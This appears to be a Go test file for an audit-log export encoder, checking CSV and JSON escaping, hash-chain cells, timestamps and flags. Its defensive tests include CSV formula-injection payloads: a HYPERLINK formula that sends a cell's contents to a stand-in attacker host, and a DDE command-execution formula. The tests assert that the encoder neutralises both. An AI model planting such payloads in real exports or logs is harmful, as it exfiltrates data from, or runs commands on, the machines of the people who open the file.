package audit_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/auditlogd/auditlogd/internal/audit"
	"github.com/auditlogd/auditlogd/internal/insight"
	"github.com/auditlogd/auditlogd/internal/timefmt"
)

// xCSVHeader is the header row docs/API.md §7, §9 and §14 fix — §7's
// fourteen columns, then the hash chain's sequence, prev_hash and hash, then
// §14's flags — spelled out here rather than taken from the package, so that
// a change to it fails the tests.
const (
	xCSVHeader7     = "id,occurred_at,action,actor_id,actor_email,actor_type,target_type,target_id,target_label,previous_role,role,ip_address,user_agent,request_id"
	xCSVChainHeader = xCSVHeader7 + ",sequence,prev_hash,hash"
	xCSVHeader      = xCSVChainHeader + ",flags"
)

// xCSVColumns is how many cells every CSV record has.
const xCSVColumns = 18

// xJSONKeys are the keys of a JSON export object in the order docs/API.md §7,
// §9 and §14 give them, and the keys of its actor and target.
const (
	xJSONKeys       = "id,occurredAt,action,actor,target,previousRole,role,ipAddress,userAgent,requestId,sequence,prevHash,hash,flags"
	xJSONActorKeys  = "id,email,type"
	xJSONTargetKeys = "type,id,label"
)

// xCols are a row's string columns in CSV order (occurred_at, the second
// column, is the only one that is not a string). A nil pointer is NULL.
type xCols struct {
	ID, Action, ActorID, ActorEmail, ActorType            *string
	TargetType, TargetID, TargetLabel, PreviousRole, Role *string
	IPAddress, UserAgent, RequestID                       *string
}

func (c *xCols) ptrs() []**string {
	return []**string{&c.ID, &c.Action, &c.ActorID, &c.ActorEmail, &c.ActorType, &c.TargetType, &c.TargetID,
		&c.TargetLabel, &c.PreviousRole, &c.Role, &c.IPAddress, &c.UserAgent, &c.RequestID}
}

func xBytes(p *string) []byte {
	if p == nil {
		return nil
	}
	return []byte(*p)
}

// xSeq is the sequence xRow gives a row.
const xSeq = 7

func xRow(ms int64, c xCols) *audit.Row { return xRowAt(ms, xSeq, c) }

// xRowAt is a row at sequence seq, whose prevHash is 32 bytes of seq − 1
// and hash 32 bytes of seq (the encoder writes what it is given; the chain
// itself is package integrity's).
func xRowAt(ms, seq int64, c xCols) *audit.Row {
	return &audit.Row{OccurredAtMs: ms, ID: xBytes(c.ID), Action: xBytes(c.Action), ActorID: xBytes(c.ActorID),
		ActorEmail: xBytes(c.ActorEmail), ActorType: xBytes(c.ActorType), TargetType: xBytes(c.TargetType),
		TargetID: xBytes(c.TargetID), TargetLabel: xBytes(c.TargetLabel), PreviousRole: xBytes(c.PreviousRole),
		Role: xBytes(c.Role), IPAddress: xBytes(c.IPAddress), UserAgent: xBytes(c.UserAgent), RequestID: xBytes(c.RequestID),
		Sequence: seq, PrevHash: bytes.Repeat([]byte{byte(seq - 1)}, 32), Hash: bytes.Repeat([]byte{byte(seq)}, 32)}
}

// xChainCells are the sequence, prev_hash and hash of xRowAt(…, seq, …) as
// text: the CSV's last three cells and the JSON's last three values.
func xChainCells(seq int64) []string {
	return []string{strconv.FormatInt(seq, 10), strings.Repeat(fmt.Sprintf("%02x", byte(seq-1)), 32),
		strings.Repeat(fmt.Sprintf("%02x", byte(seq)), 32)}
}

// xChainCSV is ",sequence,prev_hash,hash,flags" of xRowAt(…, seq, …), whose
// flags are none: an empty last cell.
func xChainCSV(seq int64) string { return "," + strings.Join(xChainCells(seq), ",") + "," }

func xp(s string) *string { return &s }

// xPlain is a row with every column set to a value that needs neither
// quoting nor escaping.
func xPlain() xCols {
	return xCols{ID: xp("01HZY3J4QK2M6N8P0R2S4T6V8W"), Action: xp("MEMBER_ROLE_UPDATED"), ActorID: xp("user-1"),
		ActorEmail: xp("ada@example.com"), ActorType: xp("USER"), TargetType: xp("USER"), TargetID: xp("user-2"),
		TargetLabel: xp("bob@example.com"), PreviousRole: xp("MEMBER"), Role: xp("ADMIN"), IPAddress: xp("192.0.2.7"),
		UserAgent: xp("Mozilla/5.0"), RequestID: xp("req-1")}
}

// xMs is 2024-01-02T03:04:05.006Z.
var xMs = time.Date(2024, 1, 2, 3, 4, 5, 6_000_000, time.UTC).UnixMilli()

const xMsText = "2024-01-02T03:04:05.006Z"

// xEncode runs the encoder of f over rows and returns its output.
func xEncode(t *testing.T, f audit.Format, rows ...*audit.Row) string {
	t.Helper()
	var out bytes.Buffer
	w := bufio.NewWriter(&out)
	enc := audit.NewEncoder(f, w)
	if err := enc.Begin(); err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := enc.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.End(); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestCSVEncoderWritesTheHeaderAndCRLFRows(t *testing.T) {
	t.Parallel()
	noTarget := xCols{ID: xp("01HZY3J4QK2M6N8P0R2S4T6V8X"), Action: xp("MEMBER_ADDED"), ActorID: xp("svc"), ActorType: xp("SERVICE")}
	got := xEncode(t, audit.CSV, xRowAt(xMs, 2, xPlain()), xRowAt(xMs-1, 1, noTarget))
	want := xCSVHeader + "\r\n" +
		"01HZY3J4QK2M6N8P0R2S4T6V8W," + xMsText + ",MEMBER_ROLE_UPDATED,user-1,ada@example.com,USER,USER,user-2,bob@example.com,MEMBER,ADMIN,192.0.2.7,Mozilla/5.0,req-1," +
		"2,0101010101010101010101010101010101010101010101010101010101010101,0202020202020202020202020202020202020202020202020202020202020202,\r\n" +
		"01HZY3J4QK2M6N8P0R2S4T6V8X,2024-01-02T03:04:05.005Z,MEMBER_ADDED,svc,,SERVICE,,,,,,,,," +
		"1,0000000000000000000000000000000000000000000000000000000000000000,0101010101010101010101010101010101010101010101010101010101010101,\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CSV (-want +got):\n%s", diff)
	}
	if got := xEncode(t, audit.CSV); got != xCSVHeader+"\r\n" {
		t.Errorf("CSV of no rows = %q, want the header row alone", got)
	}
	if audit.CSVHeader != xCSVHeader7 {
		t.Errorf("CSVHeader = %q, want %q", audit.CSVHeader, xCSVHeader7)
	}
	if audit.CSVChainHeader != xCSVChainHeader {
		t.Errorf("CSVChainHeader = %q, want %q", audit.CSVChainHeader, xCSVChainHeader)
	}
	if audit.CSVExportHeader != xCSVHeader {
		t.Errorf("CSVExportHeader = %q, want %q", audit.CSVExportHeader, xCSVHeader)
	}
	if n := len(strings.Split(xCSVHeader, ",")); n != xCSVColumns || !strings.HasSuffix(xCSVHeader, ",sequence,prev_hash,hash,flags") {
		t.Errorf("the contract's header has %d columns, want %d ending in sequence,prev_hash,hash,flags", n, xCSVColumns)
	}
}

// TestCSVEncoderWritesTheChainAsGiven shows the chain's three cells: the
// sequence in plain decimal and both hashes as 64 lowercase hex digits, then
// the (here empty) flags cell.
func TestCSVEncoderWritesTheChainAsGiven(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name           string
		seq            int64
		prev, hash     []byte
		wantChainCells string
	}{
		{"first-event-has-zero-prev-hash", 1, make([]byte, 32), bytes.Repeat([]byte{0xab}, 32),
			"1," + strings.Repeat("0", 64) + "," + strings.Repeat("ab", 32)},
		{"hex-is-lower-case", 10, bytes.Repeat([]byte{0xfe}, 32), bytes.Repeat([]byte{0xdc}, 32),
			"10," + strings.Repeat("fe", 32) + "," + strings.Repeat("dc", 32)},
		{"largest-sequence-in-plain-digits", 1<<53 - 1, bytes.Repeat([]byte{0x01}, 32), bytes.Repeat([]byte{0x10}, 32),
			"9007199254740991," + strings.Repeat("01", 32) + "," + strings.Repeat("10", 32)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := xRow(xMs, xPlain())
			r.Sequence, r.PrevHash, r.Hash = tc.seq, tc.prev, tc.hash
			out := xEncode(t, audit.CSV, r)
			if !strings.HasSuffix(out, ",req-1,"+tc.wantChainCells+",\r\n") {
				t.Errorf("want the row to end with request_id then %s and an empty flags cell, got:\n%s", tc.wantChainCells, out)
			}
			js := xEncode(t, audit.JSON, r)
			cells := strings.Split(tc.wantChainCells, ",")
			wantJSON := fmt.Sprintf(`,"requestId":"req-1","sequence":%s,"prevHash":"%s","hash":"%s","flags":[]}`, cells[0], cells[1], cells[2])
			if !strings.Contains(js, wantJSON) {
				t.Errorf("want %s in the JSON:\n%s", wantJSON, js)
			}
		})
	}
}

// TestCSVEncoderCells puts one value into each string column in turn and
// checks exactly how that cell is written.
func TestCSVEncoderCells(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		value *string
		want  string
	}{
		{"plain-value-as-is", xp("Mozilla/5.0 (X11)"), "Mozilla/5.0 (X11)"},
		{"null-is-an-empty-cell", nil, ""},
		{"empty-is-an-empty-cell", xp(""), ""},
		{"comma-is-quoted", xp("a,b"), `"a,b"`},
		{"quote-is-doubled-and-quoted", xp(`say "hi"`), `"say ""hi"""`},
		{"lone-quote", xp(`"`), `""""`},
		{"line-feed-is-quoted", xp("a\nb"), "\"a\nb\""},
		{"carriage-return-is-quoted", xp("a\rb"), "\"a\rb\""},
		{"crlf-is-quoted", xp("a\r\nb"), "\"a\r\nb\""},
		{"semicolon-and-space-need-no-quotes", xp("a; b c"), "a; b c"},
		{"non-ascii-kept", xp("Zoë ☃ 😀"), "Zoë ☃ 😀"},
		{"equals-gets-an-apostrophe", xp("=1+1"), "'=1+1"},
		{"plus-gets-an-apostrophe", xp("+1"), "'+1"},
		{"minus-one-becomes-apostrophe-minus-one", xp("-1"), "'-1"},
		{"at-gets-an-apostrophe", xp("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
		{"tab-gets-an-apostrophe", xp("\t=1"), "'\t=1"},
		{"carriage-return-first-gets-an-apostrophe-and-quotes", xp("\r=1"), "\"'\r=1\""},
		{"lone-equals", xp("="), "'="},
		{"formula-with-quotes-and-commas", xp(`=HYPERLINK("http://evil","x")`), `"'=HYPERLINK(""http://evil"",""x"")"`},
		{"formula-with-line-feed", xp("-2\n=3"), "\"'-2\n=3\""},
		{"formula-sign-later-in-the-cell-is-left", xp("a=1+2-3@4"), "a=1+2-3@4"},
		{"leading-apostrophe-is-left", xp("'=1"), "'=1"},
		{"quote-then-formula-is-left", xp(`"=1"`), `"""=1"""`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for col := range 13 {
				c := xPlain()
				*c.ptrs()[col] = tc.value
				plain := xPlain()
				want := []string{}
				for i, p := range plain.ptrs() {
					if i == 1 {
						want = append(want, xMsText)
					}
					if i == col {
						want = append(want, tc.want)
					} else {
						want = append(want, **p)
					}
				}
				got := strings.TrimPrefix(xEncode(t, audit.CSV, xRow(xMs, c)), xCSVHeader+"\r\n")
				if diff := cmp.Diff(strings.Join(want, ",")+xChainCSV(xSeq)+"\r\n", got); diff != "" {
					t.Errorf("value %q in column %d (-want +got):\n%s", xDeref(tc.value), col, diff)
				}
			}
		})
	}
}

func xDeref(p *string) string {
	if p == nil {
		return "<nil>"
	}
	return *p
}

// xHostile are values a hostile user may put into a log (through an email,
// a user agent or a request id), and the exact cell a spreadsheet user must
// read back from the CSV.
var xHostile = []struct {
	value   string
	csvCell string
}{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{"+1+1", "'+1+1"},
	{"-1", "'-1"},
	{"-2+3,4", "'-2+3,4"},
	{"@SUM(1,2)", "'@SUM(1,2)"},
	{"\t=1", "'\t=1"},
	{"\r=1", "'\r=1"},
	{"\"quoted\", and, commas", "\"quoted\", and, commas"},
	{"line\nfeed", "line\nfeed"},
	{"", ""},
	{`back\slash`, `back\slash`},
}

func TestCSVEncoderRoundTripsThroughEncodingCSV(t *testing.T) {
	t.Parallel()
	var rows []*audit.Row
	want := [][]string{strings.Split(xCSVHeader, ",")}
	for i, h := range xHostile {
		// Row i holds the hostile value in column i % 13 and in the user agent;
		// every other column is plain or, on odd rows, NULL.
		c := xPlain()
		if i%2 == 1 {
			for j, p := range c.ptrs() {
				if j > 0 && j != 1 && j != 4 {
					*p = nil
				}
			}
		}
		*c.ptrs()[i%13] = xp(h.value)
		c.UserAgent = xp(h.value)
		rows = append(rows, xRowAt(xMs+int64(i), int64(i+1), c))
		rec := []string{}
		for j, p := range c.ptrs() {
			if j == 1 {
				rec = append(rec, timefmt.Format(time.UnixMilli(xMs+int64(i))))
			}
			switch {
			case *p == nil:
				rec = append(rec, "")
			case **p == h.value:
				rec = append(rec, h.csvCell)
			default:
				rec = append(rec, **p)
			}
		}
		want = append(want, append(append(rec, xChainCells(int64(i+1))...), ""))
	}
	r := csv.NewReader(strings.NewReader(xEncode(t, audit.CSV, rows...)))
	r.FieldsPerRecord = xCSVColumns
	got, err := r.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v", err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("records read back (-want +got):\n%s", diff)
	}
	for i, rec := range got[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %d reads back as %q: a spreadsheet would run it", i, j, cell)
			}
		}
	}
}

func TestEncodersWriteOccurredAtInTheAPIFormat(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		at   time.Time
		want string
	}{
		{"milliseconds", time.Date(2024, 1, 2, 3, 4, 5, 6_000_000, time.UTC), "2024-01-02T03:04:05.006Z"},
		{"whole-second-keeps-three-digits", time.Date(2024, 12, 31, 23, 59, 59, 0, time.UTC), "2024-12-31T23:59:59.000Z"},
		{"last-millisecond", time.Date(2025, 2, 28, 0, 0, 0, 999_000_000, time.UTC), "2025-02-28T00:00:00.999Z"},
		{"epoch", time.Unix(0, 0), "1970-01-01T00:00:00.000Z"},
		{"leap-day", time.Date(2028, 2, 29, 12, 0, 0, 10_000_000, time.UTC), "2028-02-29T12:00:00.010Z"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			row := xRow(tc.at.UnixMilli(), xPlain())
			if got := timefmt.Format(tc.at); got != tc.want {
				t.Errorf("FormatTime = %q, want %q (the API format)", got, tc.want)
			}
			rec, err := csv.NewReader(strings.NewReader(xEncode(t, audit.CSV, row))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if got := rec[1][1]; got != tc.want {
				t.Errorf("CSV occurred_at = %q, want %q", got, tc.want)
			}
			var js []struct{ OccurredAt string }
			if err := json.Unmarshal([]byte(xEncode(t, audit.JSON, row)), &js); err != nil {
				t.Fatal(err)
			}
			if got := js[0].OccurredAt; got != tc.want {
				t.Errorf("JSON occurredAt = %q, want %q", got, tc.want)
			}
		})
	}
}

// TestJSONEncoderEscapesStrings checks the exact escape of each kind of
// character and what encoding/json reads back.
func TestJSONEncoderEscapesStrings(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		value    *string
		wantRaw  string
		wantRead *string
	}{
		{"null", nil, `null`, nil},
		{"empty-is-not-null", xp(""), `""`, xp("")},
		{"plain", xp("Mozilla/5.0 (X11; Linux)"), `"Mozilla/5.0 (X11; Linux)"`, xp("Mozilla/5.0 (X11; Linux)")},
		{"quote", xp(`a"b`), `"a\"b"`, xp(`a"b`)},
		{"backslash", xp(`a\b`), `"a\\b"`, xp(`a\b`)},
		{"backslash-quote", xp(`\"`), `"\\\""`, xp(`\"`)},
		{"line-feed", xp("a\nb"), `"a\nb"`, xp("a\nb")},
		{"carriage-return", xp("a\rb"), `"a\rb"`, xp("a\rb")},
		{"tab", xp("a\tb"), `"a\tb"`, xp("a\tb")},
		{"nul", xp("a\x00b"), `"a\u0000b"`, xp("a\x00b")},
		{"other-control-characters", xp("\x01\x08\x0b\x0c\x1b\x1f"), `"\u0001\u0008\u000b\u000c\u001b\u001f"`, xp("\x01\x08\x0b\x0c\x1b\x1f")},
		{"delete-is-valid-as-is", xp("a\x7fb"), "\"a\x7fb\"", xp("a\x7fb")},
		{"line-separator", xp("a\u2028b"), `"a\u2028b"`, xp("a\u2028b")},
		{"paragraph-separator", xp("a\u2029b"), `"a\u2029b"`, xp("a\u2029b")},
		{"invalid-byte", xp("a\xffb"), `"a\ufffdb"`, xp("a\ufffdb")},
		{"truncated-sequence", xp("a\xe2\x82"), `"a\ufffd\ufffd"`, xp("a\ufffd\ufffd")},
		{"surrogate-half-encoded-in-utf8", xp("\xed\xa0\x80"), `"\ufffd\ufffd\ufffd"`, xp("\ufffd\ufffd\ufffd")},
		{"replacement-character-itself-is-kept", xp("\ufffd"), "\"\ufffd\"", xp("\ufffd")},
		{"non-ascii-kept", xp("Zoë ☃ 😀"), `"Zoë ☃ 😀"`, xp("Zoë ☃ 😀")},
		{"html-characters", xp("<script>&</script>"), `"<script>&</script>"`, xp("<script>&</script>")},
		{"formula-is-not-escaped-in-json", xp(`=HYPERLINK("x")`), `"=HYPERLINK(\"x\")"`, xp(`=HYPERLINK("x")`)},
		{"minus-one-stays", xp("-1"), `"-1"`, xp("-1")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			c := xPlain()
			c.UserAgent = tc.value
			out := xEncode(t, audit.JSON, xRow(xMs, c))
			if !strings.Contains(out, `,"userAgent":`+tc.wantRaw+`,"requestId":`) {
				t.Errorf("want userAgent written as %s in:\n%s", tc.wantRaw, out)
			}
			var got []struct{ UserAgent *string }
			if err := json.Unmarshal([]byte(out), &got); err != nil {
				t.Fatalf("not JSON: %v:\n%s", err, out)
			}
			if diff := cmp.Diff(tc.wantRead, got[0].UserAgent); diff != "" {
				t.Errorf("userAgent read back (-want +got):\n%s", diff)
			}
		})
	}
}

// xJSONEvent is an event as docs/API.md §7 says the JSON export writes it.
type xJSONEvent struct {
	ID         string `json:"id"`
	OccurredAt string `json:"occurredAt"`
	Action     string `json:"action"`
	Actor      struct {
		ID    string  `json:"id"`
		Email *string `json:"email"`
		Type  string  `json:"type"`
	} `json:"actor"`
	Target *struct {
		Type  string  `json:"type"`
		ID    string  `json:"id"`
		Label *string `json:"label"`
	} `json:"target"`
	PreviousRole *string  `json:"previousRole"`
	Role         *string  `json:"role"`
	IPAddress    *string  `json:"ipAddress"`
	UserAgent    *string  `json:"userAgent"`
	RequestID    *string  `json:"requestId"`
	Sequence     int64    `json:"sequence"`
	PrevHash     string   `json:"prevHash"`
	Hash         string   `json:"hash"`
	Flags        []string `json:"flags"`
}

func xWantJSON(ms, seq int64, c xCols) xJSONEvent {
	var e xJSONEvent
	e.ID, e.Action = *c.ID, *c.Action
	e.OccurredAt = timefmt.Format(time.UnixMilli(ms))
	e.Actor.ID, e.Actor.Email, e.Actor.Type = *c.ActorID, c.ActorEmail, *c.ActorType
	if c.TargetType != nil {
		e.Target = &struct {
			Type  string  `json:"type"`
			ID    string  `json:"id"`
			Label *string `json:"label"`
		}{*c.TargetType, *c.TargetID, c.TargetLabel}
	}
	e.PreviousRole, e.Role, e.IPAddress, e.UserAgent, e.RequestID = c.PreviousRole, c.Role, c.IPAddress, c.UserAgent, c.RequestID
	chain := xChainCells(seq)
	e.Sequence, e.PrevHash, e.Hash = seq, chain[1], chain[2]
	e.Flags = []string{} // no flags: an empty array, never null
	return e
}

// xObjectKeys returns the keys of each JSON object in the array out, in
// the order they are written, and the keys of its actor and target objects
// (target: "null" when it is null).
func xObjectKeys(t *testing.T, out string) (keys, actor, target []string) {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(out))
	var objectKeys func() []string
	objectKeys = func() []string {
		var ks []string
		for dec.More() {
			tok, err := dec.Token()
			if err != nil {
				t.Fatal(err)
			}
			k := tok.(string)
			ks = append(ks, k)
			var v json.RawMessage
			if k == "actor" || k == "target" {
				tok, err := dec.Token()
				if err != nil {
					t.Fatal(err)
				}
				if tok == nil {
					target = append(target, "null")
					continue
				}
				nested := strings.Join(objectKeys(), ",")
				if _, err := dec.Token(); err != nil { // }
					t.Fatal(err)
				}
				if k == "actor" {
					actor = append(actor, nested)
				} else {
					target = append(target, nested)
				}
				continue
			}
			if err := dec.Decode(&v); err != nil {
				t.Fatal(err)
			}
		}
		return ks
	}
	if _, err := dec.Token(); err != nil { // [
		t.Fatal(err)
	}
	for dec.More() {
		if _, err := dec.Token(); err != nil { // {
			t.Fatal(err)
		}
		keys = append(keys, strings.Join(objectKeys(), ","))
		if _, err := dec.Token(); err != nil { // }
			t.Fatal(err)
		}
	}
	return keys, actor, target
}

// xDecodeStrict decodes a JSON export, refusing unknown keys, and checks that
// every object has exactly the contract's keys (a missing key would
// otherwise read as null).
func xDecodeStrict(t *testing.T, out string) []xJSONEvent {
	t.Helper()
	if !json.Valid([]byte(out)) {
		t.Fatalf("not valid JSON:\n%s", out)
	}
	var raw []map[string]json.RawMessage
	if err := json.Unmarshal([]byte(out), &raw); err != nil {
		t.Fatalf("not an array of objects: %v:\n%s", err, out)
	}
	keys := func(m map[string]json.RawMessage) string {
		var ks []string
		for k := range m {
			ks = append(ks, k)
		}
		slices.Sort(ks)
		return strings.Join(ks, ",")
	}
	ordered, actors, targets := xObjectKeys(t, out)
	for i, m := range raw {
		if got, want := keys(m), "action,actor,flags,hash,id,ipAddress,occurredAt,prevHash,previousRole,requestId,role,sequence,target,userAgent"; got != want {
			t.Errorf("object %d has keys %s, want %s", i, got, want)
		}
		if ordered[i] != xJSONKeys {
			t.Errorf("object %d has its keys in the order %s, want %s", i, ordered[i], xJSONKeys)
		}
		if actors[i] != xJSONActorKeys {
			t.Errorf("object %d actor has its keys in the order %s, want %s", i, actors[i], xJSONActorKeys)
		}
		if targets[i] != "null" && targets[i] != xJSONTargetKeys {
			t.Errorf("object %d target has its keys in the order %s, want null or %s", i, targets[i], xJSONTargetKeys)
		}
		var actor map[string]json.RawMessage
		if err := json.Unmarshal(m["actor"], &actor); err != nil || keys(actor) != "email,id,type" {
			t.Errorf("object %d actor = %s, want an object with keys email,id,type", i, m["actor"])
		}
		if string(m["target"]) != "null" {
			var target map[string]json.RawMessage
			if err := json.Unmarshal(m["target"], &target); err != nil || keys(target) != "id,label,type" {
				t.Errorf("object %d target = %s, want null or an object with keys id,label,type", i, m["target"])
			}
		}
	}
	dec := json.NewDecoder(strings.NewReader(out))
	dec.DisallowUnknownFields()
	var got []xJSONEvent
	if err := dec.Decode(&got); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if dec.More() {
		t.Errorf("more than one JSON value in:\n%s", out)
	}
	return got
}

func TestJSONEncoderWritesOneValidArray(t *testing.T) {
	t.Parallel()
	nulls := xCols{ID: xp("01HZY3J4QK2M6N8P0R2S4T6V8X"), Action: xp("MEMBER_ADDED"), ActorID: xp("system"), ActorType: xp("SYSTEM")}
	targetNoLabel := xPlain()
	targetNoLabel.TargetLabel = nil
	empties := xPlain()
	for _, p := range empties.ptrs() {
		if *p != nil {
			*p = xp("")
		}
	}
	many := []xCols{xPlain(), nulls, targetNoLabel, empties}
	for i := range 46 {
		c := xPlain()
		c.UserAgent = xp(xHostile[i%len(xHostile)].value)
		many = append(many, c)
	}
	for _, tc := range []struct {
		name string
		rows []xCols
	}{
		{"no-rows", nil},
		{"one-row", []xCols{xPlain()}},
		{"one-row-of-nulls", []xCols{nulls}},
		{"target-without-label", []xCols{targetNoLabel}},
		{"empty-strings-are-not-null", []xCols{empties}},
		{"many-rows", many},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var rows []*audit.Row
			want := []xJSONEvent{}
			for i, c := range tc.rows {
				seq := int64(len(tc.rows) - i) // newest first, as exports are
				rows = append(rows, xRowAt(xMs-int64(i), seq, c))
				want = append(want, xWantJSON(xMs-int64(i), seq, c))
			}
			out := xEncode(t, audit.JSON, rows...)
			if got := strings.TrimSpace(out); !strings.HasPrefix(got, "[") || !strings.HasSuffix(got, "]") {
				t.Errorf("output is not one array:\n%s", out)
			}
			got := xDecodeStrict(t, out)
			if got == nil {
				got = []xJSONEvent{}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("events read back (-want +got):\n%s", diff)
			}
		})
	}
}

func TestJSONEncoderTargetNullVersusObject(t *testing.T) {
	t.Parallel()
	noTarget := xPlain()
	noTarget.TargetType, noTarget.TargetID, noTarget.TargetLabel = nil, nil, nil
	noLabel := xPlain()
	noLabel.TargetLabel = nil
	for _, tc := range []struct {
		name string
		cols xCols
		want string
	}{
		{"no-target-is-null", noTarget, `"target":null,`},
		{"target-without-label-has-null-label", noLabel, `"target":{"type":"USER","id":"user-2","label":null},`},
		{"target-with-label", xPlain(), `"target":{"type":"USER","id":"user-2","label":"bob@example.com"},`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if out := xEncode(t, audit.JSON, xRow(xMs, tc.cols)); !strings.Contains(out, tc.want) {
				t.Errorf("want %s in:\n%s", tc.want, out)
			}
		})
	}
}

func TestFormatsNameTheirContent(t *testing.T) {
	t.Parallel()
	type props struct {
		Extension   string
		ContentType string
	}
	got := map[audit.Format]props{}
	for _, f := range []audit.Format{audit.CSV, audit.JSON} {
		if !f.Valid() {
			t.Errorf("%s is not Valid", f)
		}
		got[f] = props{f.Extension(), f.ContentType()}
	}
	want := map[audit.Format]props{
		"CSV":  {"csv", "text/csv; charset=utf-8"},
		"JSON": {"json", "application/json"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, f := range []audit.Format{"XML", "csv", "json", ""} {
		if f.Valid() {
			t.Errorf("%q is Valid, want only CSV and JSON", f)
		}
	}
}

// TestEncodersWriteFlags shows docs/API.md §14's flags in both formats: the
// CSV's last cell holds the names joined by ";" and the JSON's last key an
// array of them, both in the enum's order (EXTERNAL_DOMAIN, ADMIN_GRANTED,
// BURST, NEW_LOCATION) whatever order the set was built in; no flags is an
// empty cell and [].
func TestEncodersWriteFlags(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		flags    insight.Set
		wantCell string
		wantJSON string
	}{
		{"none", 0, "", `[]`},
		{"one", insight.SetOf(insight.AdminGranted), "ADMIN_GRANTED", `["ADMIN_GRANTED"]`},
		{"two-in-the-enum-order", insight.SetOf(insight.Burst, insight.ExternalDomain), "EXTERNAL_DOMAIN;BURST", `["EXTERNAL_DOMAIN","BURST"]`},
		{"all-four", insight.SetOf(insight.NewLocation, insight.Burst, insight.AdminGranted, insight.ExternalDomain),
			"EXTERNAL_DOMAIN;ADMIN_GRANTED;BURST;NEW_LOCATION", `["EXTERNAL_DOMAIN","ADMIN_GRANTED","BURST","NEW_LOCATION"]`},
		{"unknown-bit-is-skipped", insight.SetOf(insight.NewLocation) | 1<<9, "NEW_LOCATION", `["NEW_LOCATION"]`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := xRow(xMs, xPlain())
			r.Flags = tc.flags
			out := xEncode(t, audit.CSV, r)
			if want := ",req-1" + xChainCSV(xSeq) + tc.wantCell + "\r\n"; !strings.HasSuffix(out, want) {
				t.Errorf("CSV row does not end with %q:\n%q", want, out)
			}
			rd := csv.NewReader(strings.NewReader(out))
			rd.FieldsPerRecord = xCSVColumns
			recs, err := rd.ReadAll()
			if err != nil {
				t.Fatalf("encoding/csv: %v", err)
			}
			if got := recs[0][xCSVColumns-1]; got != "flags" {
				t.Errorf("last header cell %q, want flags", got)
			}
			if got := recs[1][xCSVColumns-1]; got != tc.wantCell {
				t.Errorf("flags cell %q, want %q", got, tc.wantCell)
			}
			js := xEncode(t, audit.JSON, r)
			if want := `,"hash":"` + xChainCells(xSeq)[2] + `","flags":` + tc.wantJSON + `}`; !strings.Contains(js, want) {
				t.Errorf("want %s in the JSON:\n%s", want, js)
			}
			got := xDecodeStrict(t, js)
			want := []string{}
			if tc.wantCell != "" {
				want = strings.Split(tc.wantCell, ";")
			}
			if diff := cmp.Diff(want, got[0].Flags); diff != "" {
				t.Errorf("JSON flags read back (-want +got):\n%s", diff)
			}
		})
	}
}
